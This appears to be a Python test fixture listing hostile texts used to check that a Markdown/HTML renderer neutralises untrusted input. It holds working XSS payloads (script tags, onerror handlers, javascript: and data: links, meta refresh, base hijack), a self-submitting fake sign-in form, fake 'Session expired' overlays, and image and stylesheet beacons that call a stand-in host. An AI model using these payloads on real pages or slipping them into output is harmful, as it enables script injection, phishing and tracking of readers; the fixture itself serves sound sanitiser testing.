"""Texts that attack whoever shows them. `BEACON` stands for the address of a server that must never be asked."""

from __future__ import annotations

BEACON = "http://BEACON"

HOSTILE: dict[str, str] = {
    "script": "<script>window.pwned=1;fetch('http://BEACON/script')</script>",
    "img": "<img src=http://BEACON/img onerror=window.pwned=1>",
    "img broken": "<img src=x onerror=\"window.pwned=1;new Image().src='http://BEACON/onerror'\">",
    "svg": "<svg onload=window.pwned=1><image href=http://BEACON/svg /></svg>",
    "iframe": "<iframe src=http://BEACON/iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "form": "<form action=http://BEACON/form><input name=a><button>Sign in</button></form>"
    "<script>document.forms[0].submit()</script>",
    "style": "<style>body{background:url(http://BEACON/style)}@import 'http://BEACON/import';</style>",
    "overlay": "<div style='position:fixed;inset:0;background:red;z-index:99999'>Session expired</div>",
    "link tag": "<link rel=stylesheet href=http://BEACON/link>",
    "meta": "<meta http-equiv=refresh content='0;url=http://BEACON/meta'>",
    "base": "<base href=http://BEACON/base/>",
    "object": "<object data=http://BEACON/object></object><embed src=http://BEACON/embed>",
    "video": "<video src=http://BEACON/video autoplay poster=http://BEACON/poster></video>",
    "markdown image": "![alt](http://BEACON/markdown)",
    "reference image": "![alt][r]\n\n[r]: http://BEACON/reference",
    "linked image": "[![alt](http://BEACON/linked)](http://BEACON/target)",
    "image in a table": "| a |\n| --- |\n| ![x](http://BEACON/table) |",
    "image in a list": "- 1. > ![x](http://BEACON/list)",
    "image in a heading": "# ![x](http://BEACON/heading)\n\n![y](http://BEACON/setext)\n===",
    "javascript link": '[click](javascript:window.pwned=1) <a href="javascript:window.pwned=1">x</a>',
    "data link": "[click](data:text/html,<script>parent.pwned=1</script>)",
    "mermaid": (
        '```mermaid\ngraph TD\nA[<img src=http://BEACON/mermaid>] --> B\nclick A href "http://BEACON/click"\n```'
    ),
    "katex": "$\\href{javascript:window.pwned=1}{x}$ "
    "$\\includegraphics{http://BEACON/katex}$ $\\htmlStyle{position:fixed}{x}$",
    "katex overlay": "$\\rule{3000px}{3000px}$ \\[\\raise{900px}{\\Huge\\text{Sign in}}\\]",
    "directive": ":red-background[:material/warning: Session expired] :streamlit: :smile:",
    "unclosed fence": "~~~\n```\n![x](http://BEACON/fence)\n~~~~\n![y](http://BEACON/fence2)",
    "backslashes": "\\![x](http://BEACON/bs1) \\\\![x](http://BEACON/bs2) \\`![x](http://BEACON/bs3)`",
    "code breaker": "`` ` `` ``` ![x](http://BEACON/code) ```\n\n    ![x](http://BEACON/indented)",
    "entities": "&#33;[x](http://BEACON/entity) &lt;img src=http://BEACON/entity2&gt;",
    "attribute breaker": "\"><img src=http://BEACON/attribute onerror=window.pwned=1>' onmouseover='window.pwned=1",
    "controls": "\u202e\u0000\u0007</span><img src=http://BEACON/controls>\ud800",
    "marks": "\ue0000\ue001 $a$ \ue000999\ue001 \ue0001\ue001![x](http://BEACON/marks)",
    "long": "![x](http://BEACON/long) " * 40,
}
"""Name: text."""
